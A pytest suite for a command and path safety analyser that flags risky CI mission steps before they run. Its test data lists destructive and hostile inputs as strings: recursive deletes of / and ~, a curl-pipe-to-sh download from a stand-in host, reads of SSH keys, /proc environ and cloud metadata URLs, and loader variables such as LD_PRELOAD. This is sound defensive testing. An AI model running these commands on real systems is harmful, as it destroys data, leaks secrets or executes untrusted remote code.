"""File-step paths, mission env, http URLs, argv commands, written scripts, policies and the rule list."""

from __future__ import annotations

import os
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pytest_rustchain.safety import (
    RULES,
    Finding,
    Policy,
    Severity,
    analyse_command,
    analyse_env,
    analyse_path,
    analyse_url,
    explain,
    parse_allow_rule,
    risk_score,
    rules_markdown,
    verdict,
)
from pytest_rustchain.safety.rules import realpath_below


def ids(findings: tuple[Finding, ...]) -> set[str]:
    return {f.rule_id for f in findings}


def judge_line(line: str, workspace: Path, **kwargs: Any) -> tuple[Finding, ...]:
    """Findings for a ``shell: true`` command line (nothing is run)."""
    return analyse_command(line, shell=True, workspace=workspace, **kwargs)  # noqa: S604 - analysed, never run


# ---------------------------------------------------------------- file-step paths


@pytest.mark.parametrize(
    ("path", "op", "recursive", "expected", "rule"),
    [
        ("out/report.txt", "write", False, Severity.INFO, None),
        ("data/input.json", "read", False, Severity.INFO, None),
        ("build", "delete", True, Severity.LOW, "RC-FS-005"),
        ("../x", "write", False, Severity.HIGH, "RC-FS-003"),
        ("a/../../x", "write", False, Severity.HIGH, "RC-FS-003"),
        ("/etc/passwd", "write", False, Severity.HIGH, "RC-FS-003"),
        ("/etc/passwd", "read", False, Severity.HIGH, "RC-FS-009"),
        ("~/.ssh/x", "write", False, Severity.HIGH, "RC-FS-003"),
        ("~/.ssh/id_rsa", "read", False, Severity.HIGH, "RC-SEC-001"),
        ("~/.bashrc", "write", False, Severity.HIGH, "RC-PERS-001"),
        ("/proc/self/environ", "read", False, Severity.HIGH, "RC-SEC-001"),
        ("/dev/sda", "write", False, Severity.CRITICAL, "RC-DEV-001"),
        ("/dev/zero", "read", False, Severity.HIGH, "RC-FS-009"),
        ("..", "delete", True, Severity.CRITICAL, "RC-FS-001"),
        (".", "delete", True, Severity.HIGH, "RC-FS-010"),
        ("", "delete", False, Severity.HIGH, "RC-FS-010"),
        (".git", "delete", True, Severity.HIGH, "RC-FS-008"),
        (".git/config", "read", False, Severity.HIGH, "RC-SEC-003"),
        (".git/HEAD", "read", False, Severity.HIGH, "RC-FS-008"),
        (".git/hooks/pre-commit", "write", False, Severity.HIGH, "RC-PERS-003"),
        ("bad\x00name", "write", False, Severity.MEDIUM, "RC-PARSE-001"),
    ],
)
def test_file_step_path(
    path: str, op: str, recursive: bool, expected: Severity, rule: str | None, tmp_path: Path
) -> None:
    """File steps that leave the workspace, touch .git or read secrets are reported before they run."""
    findings = analyse_path(path, op=op, workspace=tmp_path, recursive=recursive)  # type: ignore[arg-type]
    assert risk_score(findings) == expected, findings
    if rule is not None:
        assert rule in ids(findings)


def test_absolute_path_inside_the_workspace_is_fine(tmp_path: Path) -> None:
    """An absolute path that points into the workspace is as good as a relative one."""
    assert analyse_path(str(tmp_path / "out.txt"), op="write", workspace=tmp_path) == ()


# ---------------------------------------------------------------------- mission env


@pytest.mark.parametrize("name", ["BASH_ENV", "LD_PRELOAD", "PYTHONSTARTUP", "ENV", "NODE_OPTIONS", "BASH_FUNC_x%%"])
def test_loader_variables_in_env_are_high(name: str) -> None:
    """A mission env that sets a loader variable is refused at collection (high)."""
    findings = analyse_env({name: "x", "CI": "1"})
    assert ids(findings) == {"RC-ENV-001"}
    assert findings[0].severity == Severity.HIGH


@pytest.mark.parametrize("name", ["PATH", "PYTHONPATH", "LANG", "GIT_AUTHOR_NAME", "API_TOKEN"])
def test_ordinary_env_is_fine(name: str) -> None:
    """Ordinary variables, PYTHONPATH included, are not loader tampering."""
    assert analyse_env({name: "./bin:/usr/bin"}) == ()


def test_path_env_entry_in_workspace_makes_programs_opaque(tmp_path: Path) -> None:
    """With ``PATH=./bin:$PATH`` in the mission env, a program may be a workspace file (medium)."""
    findings = judge_line("tool --check", tmp_path, env={"PATH": "./bin:/usr/bin"})
    assert ids(findings) == {"RC-EXEC-006"}
    venv = judge_line("pytest", tmp_path, env={"PATH": ".venv/bin:/usr/bin"}, venvs={".venv"}.__contains__)
    assert venv == ()


@pytest.mark.parametrize(
    "line",
    [
        ".venv/bin/python -m pytest",
        "PATH=.venv/bin:$PATH pytest",
        "PATH=$PWD/.venv/bin:$PATH pytest",
        "source .venv/bin/activate && pytest -q",
        "python3 -m venv .venv || true; .venv/bin/pytest",
    ],
)
def test_a_folder_named_venv_is_not_trusted_by_its_name(line: str, tmp_path: Path) -> None:
    """A `.venv` that is not known to be a virtualenv is workspace code: its programs are opaque (medium)."""
    findings = judge_line(line, tmp_path)
    assert ids(findings) & {"RC-EXEC-005", "RC-EXEC-006"}, findings
    assert risk_score(findings) == Severity.MEDIUM


@pytest.mark.parametrize(
    "line",
    [
        ".mission-venv/bin/python -m pip install requests",
        ".mission-venv/bin/pytest -q",
        "PATH=.mission-venv/bin:$PATH pytest",
        "PATH=$PWD/.mission-venv/bin:$PATH pytest",
        ". .mission-venv/bin/activate && pytest -q",
        "cd sub && ../.mission-venv/bin/pytest",
    ],
)
def test_a_known_virtualenv_is_trusted_whatever_its_name(line: str, tmp_path: Path) -> None:
    """Programs in a directory the caller knows is a virtualenv are judged by name, as installed tools."""
    assert judge_line(line, tmp_path, venvs={".mission-venv"}.__contains__) == ()


@pytest.mark.parametrize(
    ("line", "made"),
    [
        ("python3 -m venv .mv && .mv/bin/pip install requests", {".mv"}),
        ("python -m venv --prompt x --without-pip envs/a; envs/a/bin/pytest", {"envs/a"}),
        ("virtualenv -p python3 build-env && build-env/bin/pytest", {"build-env"}),
        ("uv venv && .venv/bin/python -m pytest", {".venv"}),
        ("uv venv tools && PATH=tools/bin:$PATH pytest", {"tools"}),
    ],
)
def test_a_virtualenv_made_earlier_on_the_line_is_trusted(line: str, made: set[str], tmp_path: Path) -> None:
    """`python -m venv D && D/bin/pip ...` trusts D: the line made it; the made virtualenvs are reported."""
    found: set[str] = set()
    assert judge_line(line, tmp_path, made_venvs=found) == ()
    assert found == made


def test_known_env_values_resolve_paths(tmp_path: Path) -> None:
    """``rm -rf $BUILD`` is judged on the value the mission gives BUILD."""
    inside = judge_line("rm -rf $BUILD", tmp_path, env={"BUILD": "build"})
    outside = judge_line("rm -rf $BUILD", tmp_path, env={"BUILD": "/"})
    unknown = judge_line("rm -rf $BUILD", tmp_path)
    assert risk_score(inside) == Severity.LOW
    assert ids(outside) == {"RC-FS-001"}
    assert ids(unknown) == {"RC-FS-002"}


# ----------------------------------------------------------------------------- URLs


@pytest.mark.parametrize(
    ("url", "allow", "expected", "rule"),
    [
        ("https://pypi.org/simple/", (), Severity.MEDIUM, "RC-NET-001"),
        ("https://pypi.org/simple/", ("pypi.org",), Severity.INFO, None),
        ("https://files.pythonhosted.org/x", ("*.pythonhosted.org",), Severity.INFO, None),
        ("http://127.0.0.1:8000/health", (), Severity.INFO, None),
        ("http://localhost/", (), Severity.INFO, None),
        ("http://169.254.169.254/latest/meta-data/", (), Severity.HIGH, "RC-NET-005"),
        ("http://[fd00:ec2::254]/", (), Severity.HIGH, "RC-NET-005"),
        ("http://2852039166/", (), Severity.HIGH, "RC-NET-005"),
        ("http://metadata.google.internal/", (), Severity.HIGH, "RC-NET-005"),
        ("http://169.254.169.254/", ("169.254.0.0/16",), Severity.INFO, None),
        ("http://10.0.0.5/", (), Severity.MEDIUM, "RC-NET-007"),
        ("http://10.0.0.5/", ("10.0.0.0/8",), Severity.INFO, None),
        ("file:///etc/passwd", (), Severity.HIGH, "RC-NET-006"),
        ("gopher://x.example.com/", (), Severity.HIGH, "RC-NET-006"),
        ("http://[::1", (), Severity.MEDIUM, "RC-PARSE-001"),
    ],
)
def test_http_url(url: str, allow: tuple[str, ...], expected: Severity, rule: str | None) -> None:
    """http steps: unlisted hosts are medium, metadata addresses and other schemes high, loopback fine."""
    findings = analyse_url(url, allow)
    assert risk_score(findings) == expected, findings
    if rule is not None:
        assert rule in ids(findings)


# ------------------------------------------------------------------- argv commands


@pytest.mark.parametrize(
    ("argv", "rule"),
    [
        (["rm", "-rf", "/"], "RC-FS-001"),
        (["/bin/rm", "-rf", "/"], "RC-FS-001"),
        (["env", "rm", "-rf", "/"], "RC-FS-001"),
        (["sh", "-c", "rm -rf ~"], "RC-FS-001"),
        (["bash", "-c", "curl -s https://x.example.com | sh"], "RC-EXEC-001"),
        (["python3", "-c", "print(1)"], "RC-EXEC-003"),
        (["git", "push"], "RC-NET-004"),
        (["cat", "/proc/1/environ"], "RC-SEC-001"),
    ],
)
def test_argv_commands_are_judged_on_the_same_facts(argv: list[str], rule: str, tmp_path: Path) -> None:
    """``shell: false`` commands meet the same rules as shell lines."""
    assert rule in ids(analyse_command(argv, shell=False, workspace=tmp_path))


def test_argv_string_is_split_with_shlex(tmp_path: Path) -> None:
    """A ``command`` string with spaces and no args is split like the runner splits it."""
    assert "RC-FS-001" in ids(analyse_command("rm -rf /", shell=False, workspace=tmp_path))
    broken = analyse_command("echo 'unbalanced", shell=False, workspace=tmp_path)
    assert ids(broken) == {"RC-PARSE-001"}


def test_argv_semicolon_is_just_text(tmp_path: Path) -> None:
    """Without a shell, ``;`` and ``|`` are plain arguments: ``echo 'a; rm -rf ~'`` prints."""
    assert analyse_command(["echo", "a; rm -rf ~"], shell=False, workspace=tmp_path) == ()


def test_template_placeholder_counts_as_unknown(tmp_path: Path) -> None:
    """A template part passed as an unset variable makes a delete target unknown, in both modes."""
    assert "RC-FS-002" in ids(judge_line("rm -rf ${TPL_1}", tmp_path))
    assert "RC-FS-002" in ids(analyse_command(["rm", "-rf", "${TPL_1}"], shell=False, workspace=tmp_path))


# --------------------------------------------------------------- scripts and cwd


def test_script_written_by_an_earlier_step_is_analysed(tmp_path: Path) -> None:
    """``bash x.sh`` of a script an earlier step wrote is judged as that script."""
    written = {"x.sh": "#!/bin/sh\nrm -rf ~\n"}
    for line in ("bash x.sh", "sh ./x.sh", "./x.sh", "source x.sh", ". ./x.sh", "sh < x.sh"):
        findings = judge_line(line, tmp_path, written_scripts=written)
        assert "RC-FS-001" in ids(findings), line
        assert "RC-EXEC-005" not in ids(findings), line


def test_harmless_written_script_is_allowed(tmp_path: Path) -> None:
    """A script the mission wrote that only builds is not reported as opaque."""
    written = {"scripts/build.sh": "set -e\nmkdir -p out\necho built > out/log.txt\n"}
    findings = judge_line("bash scripts/build.sh", tmp_path, written_scripts=written)
    assert findings == ()


def test_other_workspace_files_are_opaque(tmp_path: Path) -> None:
    """Running a workspace file the mission did not write is opaque (medium), not safe."""
    written = {"x.sh": "echo hi\n"}
    findings = judge_line("./other.sh", tmp_path, written_scripts=written)
    assert ids(findings) == {"RC-EXEC-005"}


def test_python_script_written_by_the_mission_is_still_opaque(tmp_path: Path) -> None:
    """Only shell scripts are read; a Python file the mission wrote is opaque when run."""
    written = {"x.py": "import shutil\nshutil.rmtree('/')\n", "y.sh": "#!/usr/bin/env python3\nprint(1)\n"}
    assert ids(judge_line("python x.py", tmp_path, written_scripts=written)) == {"RC-EXEC-005"}
    assert ids(judge_line("./y.sh", tmp_path, written_scripts=written)) == {"RC-EXEC-005"}


def test_overwritten_script_is_opaque_and_old_content_still_counts(tmp_path: Path) -> None:
    """If the line rewrites the script before running it, the verdict is never lower than either."""
    written = {"x.sh": "rm -rf ~\n"}
    findings = judge_line("cp other.sh x.sh && bash x.sh", tmp_path, written_scripts=written)
    assert {"RC-FS-001", "RC-EXEC-005"} <= ids(findings)


def test_cwd_parameter_moves_relative_paths(tmp_path: Path) -> None:
    """A step's working_dir is the base of its relative paths."""
    (tmp_path / "sub").mkdir()
    inside = judge_line("rm -rf ..", tmp_path, cwd="sub")
    outside = judge_line("rm -rf ..", tmp_path)
    assert risk_score(inside) == Severity.LOW
    assert ids(outside) == {"RC-FS-001"}


def test_cd_to_unknown_place_makes_later_paths_unknown(tmp_path: Path) -> None:
    """After ``cd "$DIR"`` the analyser cannot place ``rm -rf build``: never judged as safe."""
    findings = judge_line('cd "$DIR" && rm -rf build', tmp_path)
    assert ids(findings) == {"RC-FS-002"}


def test_cd_in_one_branch_keeps_both_possibilities(tmp_path: Path) -> None:
    """A conditional ``cd /`` is followed into the branch: a later ``rm -rf *`` may hit the root."""
    findings = judge_line('if [ -n "$X" ]; then cd /; fi; rm -rf *', tmp_path)
    assert "RC-FS-001" in ids(findings)


def test_deep_nesting_is_reported_not_followed_forever(tmp_path: Path) -> None:
    """Nesting deeper than the analyser follows is reported, and the command inside still counts."""
    chain = "".join(f"f{i}() {{ f{i + 1}; }}; " for i in range(40)) + "f40() { rm -rf ~; }; f0"
    parens = "( " * 400 + "rm -rf ~" + " )" * 400
    substitutions = "echo " + "$(" * 400 + "rm -rf ~" + ")" * 400
    evals = "eval " * 100 + "rm -rf ~"
    for deep in (chain, parens, substitutions, evals):
        findings = judge_line(deep, tmp_path)
        # The command at the bottom is still found: nesting never hides it.
        assert "RC-FS-001" in ids(findings), deep[:40]
    assert "RC-PARSE-002" in ids(judge_line(parens, tmp_path))


# ------------------------------------------------------------------------ policy


def finding(rule_id: str, *, subject: str = "") -> Finding:
    return RULES[rule_id].finding("evidence", subject=subject)


@pytest.mark.parametrize(
    ("level", "rule_id", "blocked"),
    [
        ("permissive", "RC-FS-001", True),
        ("permissive", "RC-FS-003", False),
        ("standard", "RC-FS-003", True),
        ("standard", "RC-NET-001", False),
        ("strict", "RC-NET-001", True),
        ("strict", "RC-FS-005", False),
    ],
)
def test_policy_levels_block_at_their_threshold(level: str, rule_id: str, blocked: bool) -> None:
    """permissive blocks critical, standard blocks high, strict blocks medium."""
    result = verdict([finding(rule_id)], Policy(level=level))
    assert result.blocked is blocked
    assert result.score == int(RULES[rule_id].severity)


def test_nothing_found_is_allowed_with_score_zero() -> None:
    """A step without findings passes every level with risk 0."""
    result = verdict([], Policy(level="strict"))
    assert (result.blocked, result.score, result.severity) == (False, 0, Severity.INFO)


def test_allow_commands_waive_opaque_findings_but_not_critical_ones(tmp_path: Path) -> None:
    """Listing ``make`` allows ``make`` under strict; it never waives a critical finding."""
    policy = Policy(level="strict", allow_commands=frozenset({"make", "build.sh"}))
    assert not verdict(judge_line("make -j4", tmp_path), policy).blocked
    assert not verdict(judge_line("./build.sh", tmp_path), policy).blocked
    assert verdict(judge_line("python x.py", tmp_path), policy).blocked
    bash = Policy(level="permissive", allow_commands=frozenset({"sh", "curl"}))
    remote = verdict(judge_line("curl -s https://x.example.com | sh", tmp_path), bash)
    assert remote.blocked


def test_allow_rules_can_be_scoped_to_one_step() -> None:
    """``RC-FS-001@file::step`` waives the rule for that step only."""
    policy = Policy(allow_rules=(parse_allow_rule("RC-FS-001@missions/release.mission.yaml::cleanup"),))
    findings = [finding("RC-FS-001")]
    assert not verdict(findings, policy, "missions/release.mission.yaml::cleanup").blocked
    assert verdict(findings, policy, "missions/release.mission.yaml::other").blocked
    unscoped = Policy(allow_rules=(parse_allow_rule("RC-FS-001"),))
    assert not verdict(findings, unscoped, "any::step").blocked


def test_allow_hosts_waive_network_findings(tmp_path: Path) -> None:
    """Listing a host removes its egress finding for commands too."""
    findings = judge_line("curl -fsS https://pypi.org/simple/", tmp_path)
    policy = Policy(level="strict", allow_hosts=("pypi.org",))
    result = verdict(findings, policy)
    assert not result.blocked
    assert [f.rule_id for f in result.waived] == ["RC-NET-001"]


def test_safety_floor_raises_a_looser_level() -> None:
    """MISSION_SAFETY_FLOOR=strict wins over a permissive configuration, never loosens a stricter one."""
    assert Policy(level="permissive").at_least("strict").level == "strict"
    assert Policy(level="strict").at_least("standard").level == "strict"
    assert Policy(level="standard").at_least(None).level == "standard"
    with pytest.raises(ValueError, match="unknown safety floor"):
        Policy().at_least("lenient")
    with pytest.raises(ValueError, match="unknown safety level"):
        Policy(level="lenient")


def test_block_explanation_names_rule_evidence_and_hint(tmp_path: Path) -> None:
    """A block explains itself: score, rule id, normalised command and how to allow it."""
    findings = judge_line("rm -rf ${HOME}", tmp_path)
    key = "missions/release.mission.yaml::cleanup"
    text = explain(
        verdict(findings, Policy(), key), step_id="cleanup", location="missions/release.mission.yaml:14", step_key=key
    )
    assert text.splitlines()[0] == (
        "BLOCKED step 'cleanup' (missions/release.mission.yaml:14) risk 100 (critical), policy standard"
    )
    assert "RC-FS-001 recursive delete or overwrite outside the workspace (~): rm -rf ${HOME}" in text
    assert f"RC-FS-001@{key}" in text.splitlines()[-1]
    assert text.splitlines()[-1].startswith("  HINT: ")


# -------------------------------------------------------------------- rule list


def test_every_rule_is_documented() -> None:
    """Each rule has a stable id, a severity from the table, a title, an example and a way to allow it."""
    assert len(RULES) >= 30
    for rule_id, rule in RULES.items():
        assert re.fullmatch(r"RC-[A-Z]+-\d{3}", rule_id)
        assert rule.id == rule_id
        assert rule.title and rule.example and rule.how_to_allow and rule.category
        assert rule.severity in Severity


def test_rules_markdown_lists_every_rule() -> None:
    """The README table generated from the registry has one row per rule."""
    table = rules_markdown()
    rows = [line for line in table.splitlines() if line.startswith("| RC-")]
    assert len(rows) == len(RULES)
    for rule_id in RULES:
        assert f"| {rule_id} |" in table


def test_severity_table_is_covered() -> None:
    """Every severity of SPEC 7 has at least one rule, so each row of the table can be reported."""
    assert {rule.severity for rule in RULES.values()} == set(Severity) - {Severity.INFO}


def test_argv_shell_script_is_read_as_a_script(tmp_path: Path) -> None:
    """`["sh", "-c", SCRIPT]` is judged as SCRIPT, its `$X` being the script's own variables."""
    quiet = analyse_command(["sh", "-c", 'echo "$NAME" >> "$MISSION_OUTPUT"'], shell=False, workspace=tmp_path)
    assert quiet == ()
    loud = analyse_command(["bash", "-c", "rm -rf $HOME"], shell=False, workspace=tmp_path)
    assert "RC-FS-001" in {f.rule_id for f in loud}
    unknown = analyse_command(["rm", "-rf", "${TPL_1}"], shell=False, workspace=tmp_path)
    assert "RC-FS-002" in {f.rule_id for f in unknown}


_NAMES = ("a", "b", "c")


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    entries=st.lists(
        st.tuples(
            st.lists(st.sampled_from(_NAMES), min_size=1, max_size=3).map("/".join),
            st.sampled_from(["dir", "file", "link"]),
            st.sampled_from(["a", "../b", "/", "a/b", "..", "c/../a", "/etc", "missing", "."]),
        ),
        max_size=8,
    ),
    probe=st.lists(st.sampled_from([*_NAMES, "missing"]), min_size=1, max_size=4).map("/".join),
)
def test_links_on_disk_in_the_workspace_are_followed_as_the_system_does(
    tmp_path_factory: pytest.TempPathFactory, entries: list[tuple[str, str, str]], probe: str
) -> None:
    """A path inside the workspace is judged where the system's own resolution of its links takes it
    (links to other workspace entries, up and out of it, to `/`, in loops, dangling), whatever the tree."""
    root = Path(os.path.realpath(tmp_path_factory.mktemp("tree")))
    for rel, kind, target in entries:
        path = root / rel
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            if kind == "dir":
                path.mkdir()
            elif kind == "file":
                path.write_text("x")
            else:
                path.symlink_to(target)
        except OSError:
            continue  # taken already, or under a file or a link
    assert realpath_below(str(root), probe) == os.path.realpath(root / probe)
